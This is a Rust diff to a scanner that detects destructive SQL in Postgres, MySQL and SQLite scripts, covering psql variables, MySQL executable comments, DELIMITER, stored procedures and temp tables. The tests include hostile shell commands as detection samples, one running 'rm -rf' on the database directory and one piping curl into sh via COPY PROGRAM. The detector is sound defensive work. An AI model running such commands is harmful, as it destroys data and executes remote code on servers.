@@ -41,7 +41,13 @@ pub enum Dialect {
 /// Longest candidate statement kept for the tokenizer.
 const KEEP: usize = 1 << 20;
 /// Statements whose first word makes them worth keeping.
-const CANDIDATES: &[&str] = &["DROP", "TRUNCATE", "DELETE", "UPDATE", "ALTER", "DO", "COPY", "RESET", "SOURCE", "WITH"];
+const CANDIDATES: &[&str] = &[
+    "DROP", "TRUNCATE", "DELETE", "UPDATE", "ALTER", "DO", "COPY", "RESET", "SOURCE", "WITH", "EXPLAIN", "MERGE",
+    "CREATE", "PREPARE", "CALL", "ATTACH",
+];
+/// Statements that run something defined earlier in the same input (a function, procedure
+/// or prepared statement): kept only once something is defined.
+const USES: &[&str] = &["SELECT", "CALL", "EXECUTE", "PERFORM"];
 
 /// Something a script asks the client to do besides sending SQL.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -53,6 +59,35 @@ pub enum Directive {
     Connect(Vec<String>),
 }
 
+/// What one client session has defined so far, carried from one input to the next
+/// (`-f a.sql -f b.sql`, `\i`): psql variables, functions and prepared statements, and
+/// temporary tables.
+#[derive(Debug, Default, Clone, PartialEq, Eq)]
+pub struct Session {
+    /// psql variables (`-v name=value`, `\set name value`), interpolated as `:name`,
+    /// `:'name'`, `:"name"`.
+    vars: Vec<(Vec<u8>, Vec<u8>)>,
+    /// Functions, procedures and prepared statements whose bodies destroy or cannot be
+    /// seen: name (upper case) → what calling them does.
+    defs: Vec<(String, Classified)>,
+    /// Temporary tables created so far (upper case): dropping them destroys nothing kept.
+    temp_tables: Vec<String>,
+}
+
+impl Session {
+    /// A session with psql variables set on the command line.
+    pub fn with_vars(vars: &[(String, String)]) -> Session {
+        Session {
+            vars: vars.iter().map(|(k, v)| (k.as_bytes().to_vec(), v.as_bytes().to_vec())).collect(),
+            ..Session::default()
+        }
+    }
+
+    fn var(&self, name: &[u8]) -> Option<Vec<u8>> {
+        self.vars.iter().rev().find(|(k, _)| k == name).map(|(_, v)| v.clone())
+    }
+}
+
 /// What a script holds.
 #[derive(Debug, Default, Clone, PartialEq, Eq)]
 pub struct Script {
@@ -62,6 +97,8 @@ pub struct Script {
     pub unknown: Vec<String>,
     /// Statements seen in all.
     pub count: u64,
+    /// What the session has defined by the end of the script.
+    pub session: Session,
 }
 
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -104,6 +141,21 @@ enum State {
     /// `COPY … FROM stdin` data, at the start of a line.
     CopyLineStart,
     CopyLine,
+    /// MySQL: after `--`; a comment only if whitespace follows.
+    DashDash,
+    /// MySQL: after `/*`; `!` makes it an executable comment.
+    BlockOpen,
+    /// The version digits of `/*!50000`.
+    ExecVersion,
+    /// A `*` inside an executable comment: `/` closes it.
+    ExecStar,
+    /// After `:` in psql code with variables set: `:name`, `:'name'`, `:"name"` may follow.
+    Colon,
+    ColonName(Vec<u8>),
+    ColonQuoted {
+        quote: u8,
+        name: Vec<u8>,
+    },
 }
 
 /// The streaming scanner.
@@ -126,11 +178,24 @@ pub struct Scanner {
     /// Whether the previous code byte was part of an identifier, and was a lone `E`.
     ident: bool,
     lone_e: bool,
+    /// Feeding a variable's value: no interpolation inside it (psql does not recurse).
+    expanding: bool,
+    /// Inside a MySQL executable comment `/*! … */`.
+    in_exec: bool,
+    /// MySQL's statement delimiter after `DELIMITER x` (`None`: `;`), and the last code
+    /// bytes seen, to find it.
+    delimiter: Option<Vec<u8>>,
+    recent: Vec<u8>,
     out: Script,
 }
 
 impl Scanner {
     pub fn new(dialect: Dialect) -> Scanner {
+        Scanner::with_session(dialect, Session::default())
+    }
+
+    /// A scanner that continues `session` (what earlier inputs defined).
+    pub fn with_session(dialect: Dialect, session: Session) -> Scanner {
         Scanner {
             dialect,
             state: State::Code,
@@ -144,8 +209,18 @@ impl Scanner {
             after_copy: false,
             ident: false,
             lone_e: false,
-            out: Script::default(),
+            expanding: false,
+            in_exec: false,
+            delimiter: None,
+            recent: Vec::new(),
+            out: Script { session, ..Script::default() },
         }
+    }
+
+    /// Scan a whole text for what it destroys (the statements inside a definition).
+    fn scan_classified(dialect: Dialect, text: &str) -> Classified {
+        let script = Scanner::scan(dialect, text);
+        Classified { statements: script.statements, unknown: script.unknown, copy_from_stdin: false }
     }
 
     /// Scan a whole text.
@@ -210,7 +285,13 @@ impl Scanner {
                         continue;
                     }
                 }
-                State::Code if !self.keep && self.first_done => {
+                State::Code
+                    if !self.keep
+                        && self.first_done
+                        && self.out.session.vars.is_empty()
+                        && !self.in_exec
+                        && self.delimiter.is_none() =>
+                {
                     // Outside any candidate statement only bytes that can change state
                     // matter; a table lookup skips the rest. `E'…'` is recognised from the
                     // two bytes before the quote, which the skip keeps.
@@ -268,7 +349,10 @@ impl Scanner {
         match self.state.clone() {
             State::Code => self.code(b),
             State::Dash => {
-                if b == b'-' {
+                if b == b'-' && self.dialect == Dialect::MySql {
+                    // MySQL: `--` starts a comment only when whitespace follows.
+                    self.state = State::DashDash;
+                } else if b == b'-' {
                     self.text.pop();
                     self.state = State::LineComment;
                 } else {
@@ -276,12 +360,53 @@ impl Scanner {
                     self.code(b);
                 }
             }
+            State::DashDash => {
+                if b.is_ascii_whitespace() {
+                    self.text.pop();
+                    self.state = State::LineComment;
+                    if b == b'\n' {
+                        self.state = State::Code;
+                        self.code(b);
+                    }
+                } else {
+                    self.state = State::Code;
+                    self.push(b'-');
+                    self.code(b);
+                }
+            }
             State::Slash => {
                 if b == b'*' {
                     self.text.pop();
-                    self.state = State::Block { depth: 1 };
+                    self.state =
+                        if self.dialect == Dialect::MySql { State::BlockOpen } else { State::Block { depth: 1 } };
                 } else {
                     self.state = State::Code;
+                    self.code(b);
+                }
+            }
+            State::BlockOpen => {
+                if b == b'!' {
+                    // `/*! … */`, `/*!50000 … */`: MySQL runs what is inside.
+                    self.state = State::ExecVersion;
+                } else {
+                    self.state = State::Block { depth: 1 };
+                    self.byte(b);
+                }
+            }
+            State::ExecVersion => {
+                if !b.is_ascii_digit() {
+                    self.state = State::Code;
+                    self.in_exec = true;
+                    self.code(b);
+                }
+            }
+            State::ExecStar => {
+                self.state = State::Code;
+                if b == b'/' {
+                    self.in_exec = false;
+                    self.push(b' ');
+                } else {
+                    self.push(b'*');
                     self.code(b);
                 }
             }
@@ -399,15 +524,103 @@ impl Scanner {
                     self.state = State::CopyLineStart;
                 }
             }
+            State::Colon => match b {
+                b'\'' | b'"' => self.state = State::ColonQuoted { quote: b, name: Vec::new() },
+                b if b.is_ascii_alphabetic() || b == b'_' || b >= 0x80 => self.state = State::ColonName(vec![b]),
+                _ => {
+                    self.state = State::Code;
+                    self.code_at(b':', false);
+                    self.byte(b);
+                }
+            },
+            State::ColonName(mut name) => {
+                if is_ident_byte(b) && name.len() < 64 {
+                    name.push(b);
+                    self.state = State::ColonName(name);
+                } else {
+                    self.state = State::Code;
+                    self.interpolate(&name, None);
+                    self.byte(b);
+                }
+            }
+            State::ColonQuoted { quote, mut name } => {
+                if b == quote || name.len() >= 64 {
+                    self.state = State::Code;
+                    self.interpolate(&name, Some(quote));
+                } else {
+                    name.push(b);
+                    self.state = State::ColonQuoted { quote, name };
+                }
+            }
         }
     }
 
+    /// psql's `:name` (as is), `:'name'` (a string literal) or `:"name"` (an identifier):
+    /// the variable's value goes through the scanner as if written there. An unset variable
+    /// stays as written.
+    fn interpolate(&mut self, name: &[u8], quote: Option<u8>) {
+        let value = self.out.session.var(name);
+        self.expanding = true;
+        match (value, quote) {
+            (Some(v), None) => v.iter().for_each(|&b| self.byte(b)),
+            (Some(v), Some(q)) => {
+                self.byte(q);
+                for &b in &v {
+                    if b == q {
+                        self.byte(q);
+                    }
+                    self.byte(b);
+                }
+                self.byte(q);
+            }
+            (None, q) => {
+                self.code_at(b':', false);
+                q.into_iter().for_each(|q| self.byte(q));
+                name.iter().for_each(|&b| self.byte(b));
+                q.into_iter().for_each(|q| self.byte(q));
+            }
+        }
+        self.expanding = false;
+    }
+
     fn code(&mut self, b: u8) {
+        self.code_at(b, true);
+    }
+
+    /// A byte of code; `interpolate`: a `:` may start a psql variable.
+    fn code_at(&mut self, b: u8, interpolate: bool) {
+        if interpolate
+            && b == b':'
+            && !self.expanding
+            && self.dialect == Dialect::Postgres
+            && !self.out.session.vars.is_empty()
+        {
+            self.state = State::Colon;
+            return;
+        }
         let was_line_start = self.line_start;
         self.line_start = b == b'\n';
-        match b {
-            b';' => {
+        if let Some(delim) = &self.delimiter {
+            self.recent.push(b);
+            if self.recent.len() > delim.len() {
+                self.recent.remove(0);
+            }
+            if self.recent == *delim {
+                // The delimiter's earlier bytes were kept as text: take them back.
+                let keep = self.text.len().saturating_sub(delim.len() - 1);
+                self.text.truncate(keep);
+                self.recent.clear();
                 self.end_statement();
+                return;
+            }
+        }
+        match b {
+            b';' if self.delimiter.is_none() => {
+                self.end_statement();
+                return;
+            }
+            b'*' if self.in_exec => {
+                self.state = State::ExecStar;
                 return;
             }
             b'\'' => {
@@ -474,10 +687,12 @@ impl Scanner {
         }
         if self.dialect == Dialect::MySql && word == b"DELIMITER" {
             self.text.clear();
+            self.text.extend_from_slice(b"delimiter ");
             self.state = State::Meta;
             return;
         }
-        self.keep = CANDIDATES.iter().any(|c| c.as_bytes() == word);
+        self.keep = CANDIDATES.iter().any(|c| c.as_bytes() == word)
+            || (!self.out.session.defs.is_empty() && USES.iter().any(|c| c.as_bytes() == word));
         if !self.keep {
             self.text.clear();
         }
@@ -506,16 +721,95 @@ impl Scanner {
         if self.keep && self.started && self.first_done {
             let text = String::from_utf8_lossy(&self.text).into_owned();
             let truncated = self.text.len() >= KEEP;
-            let classified = classify(self.dialect, &text, truncated);
-            self.after_copy = classified.copy_from_stdin;
-            self.out.statements.extend(classified.statements);
-            self.out.unknown.extend(classified.unknown);
+            self.statement(&text, truncated);
         }
         self.reset();
         self.state = State::Code;
         if std::mem::take(&mut self.after_copy) && self.dialect == Dialect::Postgres {
             self.state = State::CopyLineStart;
         }
+    }
+
+    /// One kept statement: classify it, remember what it defines, and add what it runs.
+    fn statement(&mut self, text: &str, truncated: bool) {
+        let first = self.first.clone();
+        if first == b"CREATE" {
+            // Only definitions matter among CREATE statements; a dump has thousands of
+            // CREATE TABLE, which are not tokenized.
+            let head = text.get(..text.len().min(200)).unwrap_or(text).to_ascii_uppercase();
+            if !["FUNCTION", "PROCEDURE", "TEMP", "TEMPORARY"].iter().any(|w| head.contains(w)) {
+                return;
+            }
+        }
+        let Some(tokens) = tokens(self.dialect, text) else {
+            if first != b"CREATE" && !USES.iter().any(|u| u.as_bytes() == first.as_slice()) {
+                self.out.unknown.push(format!("a statement could not be read: {}", excerpt(text)));
+            }
+            return;
+        };
+        match first.as_slice() {
+            b"CREATE" | b"PREPARE" => {
+                if let Some((name, def)) = definition(self.dialect, &tokens) {
+                    self.out.session.defs.retain(|(n, _)| *n != name);
+                    if !def.statements.is_empty() || !def.unknown.is_empty() {
+                        self.out.session.defs.push((name, def));
+                    }
+                } else if let Some(table) = temp_table(&tokens) {
+                    self.out.session.temp_tables.push(table);
+                }
+                return;
+            }
+            b"SELECT" | b"CALL" | b"EXECUTE" | b"PERFORM" => {
+                let used: Vec<Classified> = self.uses(&tokens);
+                for c in used {
+                    self.out.statements.extend(c.statements);
+                    self.out.unknown.extend(c.unknown);
+                }
+                if first != b"CALL" {
+                    return;
+                }
+            }
+            _ => {}
+        }
+        let mut classified = classify(self.dialect, text, truncated);
+        if first == b"DROP" && !self.out.session.temp_tables.is_empty() {
+            // `DROP TABLE t` of a temporary table this input created: nothing kept is lost.
+            let names = dropped_tables(&tokens);
+            if !names.is_empty() && names.iter().all(|n| self.out.session.temp_tables.contains(n)) {
+                classified.statements.clear();
+            }
+        }
+        self.after_copy = classified.copy_from_stdin;
+        self.out.statements.extend(classified.statements);
+        self.out.unknown.extend(classified.unknown);
+    }
+
+    /// What a statement runs of the definitions made earlier: `SELECT wipe()`, `CALL p()`,
+    /// `PERFORM f()`, `EXECUTE stmt`.
+    fn uses(&self, tokens: &[Tok]) -> Vec<Classified> {
+        let mut out = Vec::new();
+        for (name, def) in &self.out.session.defs {
+            let called = tokens.iter().enumerate().any(|(i, t)| {
+                matches!(t, Tok::Word(w, _, _) if w == name)
+                    && (matches!(tokens.get(i + 1), Some(Tok::Other(p)) if p == "(")
+                        || matches!(tokens.get(i.wrapping_sub(1)), Some(Tok::Word(k, false, _)) if k == "EXECUTE" || k == "CALL"))
+            });
+            if called {
+                out.push(Classified {
+                    statements: def
+                        .statements
+                        .iter()
+                        .map(|s| Statement {
+                            text: excerpt(&format!("{} (run by {})", s.text, name.to_ascii_lowercase())),
+                            ..s.clone()
+                        })
+                        .collect(),
+                    unknown: def.unknown.clone(),
+                    copy_from_stdin: false,
+                });
+            }
+        }
+        out
     }
 
     fn meta_done(&mut self) {
@@ -540,6 +834,15 @@ impl Scanner {
             (Dialect::Postgres, "ir" | "include_relative") => {
                 self.out.directives.push(Directive::Include { path: arg, relative: true })
             }
+            (Dialect::MySql, "delimiter" | "DELIMITER" | "Delimiter") => {
+                self.delimiter = (!arg.is_empty() && arg != ";").then(|| arg.into_bytes());
+                self.recent.clear();
+            }
+            (Dialect::Postgres, "set") if words.len() >= 2 => {
+                let value: String = words[2..].concat();
+                self.out.session.vars.push((arg.into_bytes(), value.into_bytes()));
+            }
+            (Dialect::Postgres, "unset") => self.out.session.vars.retain(|(k, _)| *k != arg.as_bytes()),
             (Dialect::Postgres, "gexec") => self
                 .out
                 .unknown
@@ -562,6 +865,16 @@ impl Scanner {
 
     /// End of input.
     pub fn finish(mut self) -> Script {
+        match std::mem::replace(&mut self.state, State::Code) {
+            State::Colon => self.code_at(b':', false),
+            State::ColonName(name) => self.interpolate(&name, None),
+            State::ColonQuoted { quote, name } => {
+                self.code_at(b':', false);
+                self.byte(quote);
+                name.iter().for_each(|&b| self.byte(b));
+            }
+            other => self.state = other,
+        }
         match self.state {
             State::Quote { .. } | State::QuoteEscape { .. } => {
                 self.out.unknown.push("the SQL ends inside an unterminated quoted string".into())
@@ -593,39 +906,162 @@ fn excerpt(text: &str) -> String {
     }
 }
 
+#[derive(Debug, Clone, PartialEq, Eq)]
 struct Classified {
     statements: Vec<Statement>,
     unknown: Vec<String>,
     copy_from_stdin: bool,
 }
 
-/// Classify one candidate statement with sqlparser's tokenizer.
-fn classify(dialect: Dialect, text: &str, truncated: bool) -> Classified {
-    let mut out = Classified { statements: Vec::new(), unknown: Vec::new(), copy_from_stdin: false };
+/// The words, strings and symbols of a statement (whitespace dropped); `None` when the
+/// tokenizer cannot read it.
+fn tokens(dialect: Dialect, text: &str) -> Option<Vec<Tok>> {
     let d: Box<dyn SqlDialect> = match dialect {
         Dialect::Postgres => Box::new(PostgreSqlDialect {}),
         Dialect::MySql => Box::new(MySqlDialect {}),
         Dialect::Sqlite => Box::new(SQLiteDialect {}),
     };
-    let tokens = match Tokenizer::new(d.as_ref(), text).tokenize() {
-        Ok(t) => t,
-        Err(e) => {
-            // The scanner found a candidate it cannot tokenize: judge by its words.
-            out.unknown.push(format!("a statement could not be read ({e}): {}", excerpt(text)));
-            return out;
-        }
-    };
-    let words: Vec<Tok> = tokens
+    let tokens = Tokenizer::new(d.as_ref(), text).tokenize().ok()?;
+    Some(
+        tokens
+            .iter()
+            .filter_map(|t| match t {
+                Token::Word(w) => {
+                    Some(Tok::Word(w.value.to_ascii_uppercase(), w.quote_style.is_some(), w.value.clone()))
+                }
+                Token::Whitespace(_) => None,
+                Token::DollarQuotedString(s) => Some(Tok::Body(s.value.clone())),
+                Token::SingleQuotedString(s) => Some(Tok::Str(s.clone())),
+                Token::Number(n, _) => Some(Tok::Other(n.clone())),
+                other => Some(Tok::Other(other.to_string())),
+            })
+            .collect(),
+    )
+}
+
+/// Statement text rebuilt from tokens (for re-classifying a statement inside another).
+fn untokenize(tokens: &[Tok]) -> String {
+    let parts: Vec<String> = tokens
         .iter()
-        .filter_map(|t| match t {
-            Token::Word(w) => Some(Tok::Word(w.value.to_ascii_uppercase(), w.quote_style.is_some(), w.value.clone())),
-            Token::Whitespace(_) => None,
-            Token::DollarQuotedString(s) => Some(Tok::Body(s.value.clone())),
-            Token::SingleQuotedString(s) => Some(Tok::Str(s.clone())),
-            Token::Number(n, _) => Some(Tok::Other(n.clone())),
-            other => Some(Tok::Other(other.to_string())),
+        .map(|t| match t {
+            Tok::Word(_, true, raw) => format!("\"{raw}\""),
+            Tok::Word(_, false, raw) => raw.clone(),
+            Tok::Str(s) => format!("'{}'", s.replace('\'', "''")),
+            Tok::Body(b) => format!("$interlock${b}$interlock$"),
+            Tok::Other(o) => o.clone(),
         })
         .collect();
+    parts.join(" ")
+}
+
+fn is_kw(t: Option<&Tok>, k: &str) -> bool {
+    matches!(t, Some(Tok::Word(w, false, _)) if w == k)
+}
+
+/// `CREATE [OR REPLACE] FUNCTION|PROCEDURE name … AS $$body$$` (or a MySQL `BEGIN … END`
+/// body) and `PREPARE name AS statement`: the name (upper case) and what running it does.
+fn definition(dialect: Dialect, words: &[Tok]) -> Option<(String, Classified)> {
+    let mut i = 1;
+    if is_kw(words.get(i), "OR") && is_kw(words.get(i + 1), "REPLACE") {
+        i += 2;
+    }
+    if is_kw(words.first(), "PREPARE") {
+        let Some(Tok::Word(name, _, _)) = words.get(1) else { return None };
+        let at = words.iter().position(|t| is_kw(Some(t), "AS"))?;
+        let inner = untokenize(&words[at + 1..]);
+        return Some((name.clone(), Scanner::scan_classified(dialect, &inner)));
+    }
+    if is_kw(words.get(i), "DEFINER") || is_kw(words.get(i), "ALGORITHM") {
+        // MySQL `CREATE DEFINER=user PROCEDURE …`
+        while i < words.len() && !is_kw(words.get(i), "PROCEDURE") && !is_kw(words.get(i), "FUNCTION") {
+            i += 1;
+        }
+    }
+    if !(is_kw(words.get(i), "FUNCTION") || is_kw(words.get(i), "PROCEDURE")) {
+        return None;
+    }
+    // The name: the last word before `(`, schema-qualified or not.
+    let open = words[i..].iter().position(|t| matches!(t, Tok::Other(p) if p == "("))? + i;
+    let name = words[i + 1..open].iter().rev().find_map(|t| match t {
+        Tok::Word(w, _, _) => Some(w.clone()),
+        _ => None,
+    })?;
+    let mut def = Classified { statements: Vec::new(), unknown: Vec::new(), copy_from_stdin: false };
+    let bodies: Vec<&String> = words[open..]
+        .iter()
+        .filter_map(|t| match t {
+            Tok::Body(b) => Some(b),
+            _ => None,
+        })
+        .collect();
+    if !bodies.is_empty() {
+        for b in bodies {
+            plpgsql(b, &mut def);
+        }
+    } else if let Some(begin) = words[open..].iter().position(|t| is_kw(Some(t), "BEGIN")) {
+        // A body written out (MySQL procedures, SQL-standard bodies): split at `;`.
+        let body = untokenize(&words[open + begin + 1..]);
+        let inner = Scanner::scan_classified(dialect, &body);
+        def.statements.extend(inner.statements);
+        def.unknown.extend(inner.unknown);
+    } else if let Some(as_at) = words[open..].iter().position(|t| is_kw(Some(t), "AS")) {
+        // `AS 'DELETE FROM t'` (single-quoted body)
+        for t in &words[open + as_at..] {
+            if let Tok::Str(b) = t {
+                plpgsql(b, &mut def);
+            }
+        }
+    }
+    Some((name, def))
+}
+
+/// `CREATE [GLOBAL|LOCAL] TEMP|TEMPORARY TABLE [IF NOT EXISTS] name`: the name.
+fn temp_table(words: &[Tok]) -> Option<String> {
+    let at = words.iter().position(|t| is_kw(Some(t), "TEMP") || is_kw(Some(t), "TEMPORARY"))?;
+    if at > 3 || !is_kw(words.get(at + 1), "TABLE") {
+        return None;
+    }
+    let mut j = at + 2;
+    while matches!(words.get(j), Some(Tok::Word(w, false, _)) if matches!(w.as_str(), "IF" | "NOT" | "EXISTS")) {
+        j += 1;
+    }
+    match words.get(j)? {
+        Tok::Word(w, _, _) => Some(w.clone()),
+        _ => None,
+    }
+}
+
+/// The tables a `DROP [TEMPORARY] TABLE [IF EXISTS] a, b` names (upper case); empty for
+/// other DROPs.
+fn dropped_tables(words: &[Tok]) -> Vec<String> {
+    let mut j = 1;
+    if is_kw(words.get(j), "TEMPORARY") {
+        j += 1;
+    }
+    if !is_kw(words.get(j), "TABLE") {
+        return Vec::new();
+    }
+    j += 1;
+    let mut names = Vec::new();
+    for t in &words[j..] {
+        match t {
+            Tok::Word(w, false, _) if matches!(w.as_str(), "IF" | "EXISTS" | "CASCADE" | "RESTRICT") => {}
+            Tok::Word(w, _, _) => names.push(w.clone()),
+            Tok::Other(o) if o == "," || o == ";" => {}
+            _ => return Vec::new(),
+        }
+    }
+    names
+}
+
+/// Classify one candidate statement with sqlparser's tokenizer.
+fn classify(dialect: Dialect, text: &str, truncated: bool) -> Classified {
+    let mut out = Classified { statements: Vec::new(), unknown: Vec::new(), copy_from_stdin: false };
+    let Some(words) = tokens(dialect, text) else {
+        // The scanner found a candidate it cannot tokenize: it could destroy something.
+        out.unknown.push(format!("a statement could not be read: {}", excerpt(text)));
+        return out;
+    };
     let kw = |i: usize| match words.get(i) {
         Some(Tok::Word(w, false, _)) => w.as_str(),
         _ => "",
@@ -696,9 +1132,57 @@ fn classify(dialect: Dialect, text: &str, truncated: bool) -> Classified {
                 }
             }
         }
+        "COPY" if has_kw("PROGRAM") => {
+            // `COPY … TO|FROM PROGRAM 'cmd'`: the server runs a shell command.
+            let cmd = words.iter().find_map(|t| if let Tok::Str(s) = t { Some(s.clone()) } else { None });
+            push(&mut out, "copy_program", cmd);
+        }
         "COPY" => out.copy_from_stdin = has_kw("STDIN") && has_kw("FROM"),
+        "EXPLAIN" => {
+            // `EXPLAIN ANALYZE stmt` / `EXPLAIN (ANALYZE[, …]) stmt` runs the statement.
+            let inner = words.iter().position(|t| {
+                matches!(t, Tok::Word(k, false, _) if matches!(k.as_str(), "DELETE" | "UPDATE" | "INSERT" | "MERGE" | "WITH" | "SELECT" | "CREATE" | "EXECUTE"))
+            });
+            if let Some(i) =
+                inner.filter(|&i| words[1..i].iter().any(|t| is_kw(Some(t), "ANALYZE") || is_kw(Some(t), "ANALYSE")))
+            {
+                let options = &words[1..i];
+                let off = options.windows(2).any(|w| {
+                    (is_kw(Some(&w[0]), "ANALYZE") || is_kw(Some(&w[0]), "ANALYSE"))
+                        && matches!(&w[1], Tok::Word(k, false, _) if matches!(k.as_str(), "FALSE" | "OFF" | "0"))
+                });
+                if !off {
+                    let inner = classify(dialect, &untokenize(&words[i..]), truncated);
+                    out.statements.extend(inner.statements);
+                    out.unknown.extend(inner.unknown);
+                }
+            }
+        }
+        // `MERGE … WHEN MATCHED [AND …] THEN DELETE` deletes every matched row.
+        "MERGE" if words.windows(2).any(|w| is_kw(Some(&w[0]), "THEN") && is_kw(Some(&w[1]), "DELETE")) => {
+            push(&mut out, "merge_delete", name_at(2));
+        }
         "RESET" if matches!(kw(1), "MASTER" | "BINARY") => push(&mut out, "reset", None),
+        // SQLite `ATTACH 'file' AS x`: the session reaches another database file.
+        "ATTACH" if dialect == Dialect::Sqlite => push(&mut out, "attach", None),
         "WITH" => {
+            // The main statement after the CTEs: `WITH x AS (…) DELETE FROM t`.
+            let mut depth = 0i32;
+            for (i, t) in words.iter().enumerate() {
+                match t {
+                    Tok::Other(p) if p == "(" => depth += 1,
+                    Tok::Other(p) if p == ")" => depth -= 1,
+                    Tok::Word(k, false, _)
+                        if depth == 0 && i > 0 && matches!(k.as_str(), "DELETE" | "UPDATE" | "MERGE" | "TRUNCATE") =>
+                    {
+                        let inner = classify(dialect, &untokenize(&words[i..]), truncated);
+                        out.statements.extend(inner.statements);
+                        out.unknown.extend(inner.unknown);
+                        break;
+                    }
+                    _ => {}
+                }
+            }
             // A data-modifying CTE: `WITH x AS (DELETE FROM t RETURNING *) …`.
             for (i, t) in words.iter().enumerate() {
                 if matches!(t, Tok::Word(k, false, _) if k == "DELETE" || k == "UPDATE")
@@ -724,7 +1208,7 @@ fn classify(dialect: Dialect, text: &str, truncated: bool) -> Classified {
     out
 }
 
-#[derive(Debug)]
+#[derive(Debug, Clone)]
 enum Tok {
     /// Upper-cased value, quoted?, raw value.
     Word(String, bool, String),
@@ -914,5 +1398,85 @@ mod tests {
         assert_eq!(s.statements[0].kind, "delete_all");
         assert_eq!(kinds(Dialect::Sqlite, "SELECT 1.5; .restore main backup.db\n"), Vec::<String>::new());
         assert_eq!(kinds(Dialect::Sqlite, ".restore main backup.db\n"), ["restore"]);
+    }
+
+    #[test]
+    fn statements_that_run_other_statements() {
+        assert_eq!(pg("EXPLAIN ANALYZE DELETE FROM users"), ["delete_all"]);
+        assert_eq!(pg("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET x = 1"), ["update_all"]);
+        assert!(pg("EXPLAIN DELETE FROM users").is_empty());
+        assert!(pg("EXPLAIN (ANALYZE false) DELETE FROM users").is_empty());
+        assert_eq!(pg("WITH old AS (SELECT 1) DELETE FROM users"), ["delete_all"]);
+        assert!(pg("WITH ids AS (SELECT id FROM t) DELETE FROM users WHERE id IN (SELECT id FROM ids)").is_empty());
+        assert_eq!(pg("MERGE INTO users u USING gone g ON u.id = g.id WHEN MATCHED THEN DELETE"), ["merge_delete"]);
+        assert!(pg("MERGE INTO users u USING n ON u.id = n.id WHEN MATCHED THEN UPDATE SET x = 1").is_empty());
+        assert_eq!(pg("COPY users TO PROGRAM 'rm -rf /var/lib/postgresql'"), ["copy_program"]);
+        assert_eq!(pg("COPY t FROM PROGRAM 'curl http://x | sh'"), ["copy_program"]);
+        assert!(pg("COPY users TO '/tmp/users.csv'").is_empty());
+    }
+
+    #[test]
+    fn definitions_called_in_the_same_input() {
+        let f = "CREATE OR REPLACE FUNCTION wipe() RETURNS void LANGUAGE plpgsql AS $$ BEGIN TRUNCATE users; END $$;";
+        assert!(pg(f).is_empty(), "defining is not running");
+        assert_eq!(pg(&format!("{f} SELECT wipe();")), ["truncate"]);
+        assert_eq!(pg(&format!("{f} SELECT * FROM public.wipe();")), ["truncate"]);
+        let p = "CREATE PROCEDURE purge() LANGUAGE sql AS $$ DELETE FROM orders $$; CALL purge();";
+        assert_eq!(pg(p), ["delete_all"]);
+        assert_eq!(pg("PREPARE nuke AS DELETE FROM users; EXECUTE nuke;"), ["delete_all"]);
+        assert!(pg("PREPARE q AS SELECT * FROM users WHERE id = $1; EXECUTE q(1);").is_empty());
+        let dynamic = "CREATE FUNCTION f() RETURNS void AS $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$ LANGUAGE plpgsql; SELECT f();";
+        assert!(!Scanner::scan(Dialect::Postgres, dynamic).unknown.is_empty());
+    }
+
+    #[test]
+    fn temporary_tables_are_the_session_own() {
+        assert!(pg("CREATE TEMP TABLE scratch AS SELECT 1; DROP TABLE scratch;").is_empty());
+        assert!(
+            kinds(Dialect::MySql, "CREATE TEMPORARY TABLE s (id int); DROP TEMPORARY TABLE IF EXISTS s;").is_empty()
+        );
+        assert_eq!(pg("CREATE TEMP TABLE scratch (id int); DROP TABLE scratch, users;"), ["drop"]);
+        assert_eq!(pg("DROP TABLE scratch;"), ["drop"]);
+    }
+
+    fn pg_vars(vars: &[(&str, &str)], text: &str) -> Vec<String> {
+        let vars: Vec<(String, String)> = vars.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect();
+        let mut s = Scanner::with_session(Dialect::Postgres, Session::with_vars(&vars));
+        s.feed(text.as_bytes());
+        s.finish().statements.iter().map(|s| s.kind.clone()).collect()
+    }
+
+    #[test]
+    fn psql_variables() {
+        assert_eq!(pg_vars(&[("q", "DROP TABLE users")], ":q;"), ["drop"]);
+        assert_eq!(pg_vars(&[("t", "users")], "TRUNCATE :t;"), ["truncate"]);
+        assert_eq!(pg_vars(&[("t", "users")], "DELETE FROM :\"t\";"), ["delete_all"]);
+        assert_eq!(pg("\\set q 'DROP TABLE users'\n:q;\n"), ["drop"]);
+        assert_eq!(pg("\\set t users\nTRUNCATE :t;\n"), ["truncate"]);
+        // Casts, slices and quoted text are not variables.
+        assert!(pg_vars(&[("q", "DROP TABLE users")], "SELECT 1::int, ':q', arr[1:2];").is_empty());
+        assert!(pg_vars(&[("id", "1")], "DELETE FROM users WHERE id = :id;").is_empty());
+        // A value is not interpolated again.
+        assert!(pg_vars(&[("a", ":a")], ":a;").is_empty());
+    }
+
+    fn my(text: &str) -> Vec<String> {
+        kinds(Dialect::MySql, text)
+    }
+
+    #[test]
+    fn mysql_script_syntax() {
+        // Executable comments run.
+        assert_eq!(my("/*! DROP TABLE users */;"), ["drop"]);
+        assert_eq!(my("/*!50000 TRUNCATE TABLE users */;"), ["truncate"]);
+        assert!(my("/* DROP TABLE users */ SELECT 1;").is_empty());
+        // `--` is a comment only before whitespace.
+        assert!(my("-- DROP TABLE users\nSELECT 1;").is_empty());
+        assert_eq!(my("UPDATE t SET x = x--1;"), ["update_all"]);
+        // DELIMITER changes where statements end; a procedure runs when called.
+        let proc = "DELIMITER $$\nCREATE PROCEDURE wipe() BEGIN DELETE FROM users; END$$\nDELIMITER ;\n";
+        assert!(my(proc).is_empty(), "defining is not running");
+        assert_eq!(my(&format!("{proc}CALL wipe();\n")), ["delete_all"]);
+        assert_eq!(my("DELIMITER //\nDROP TABLE a //\nSELECT 1 //\n"), ["drop"]);
     }
 }
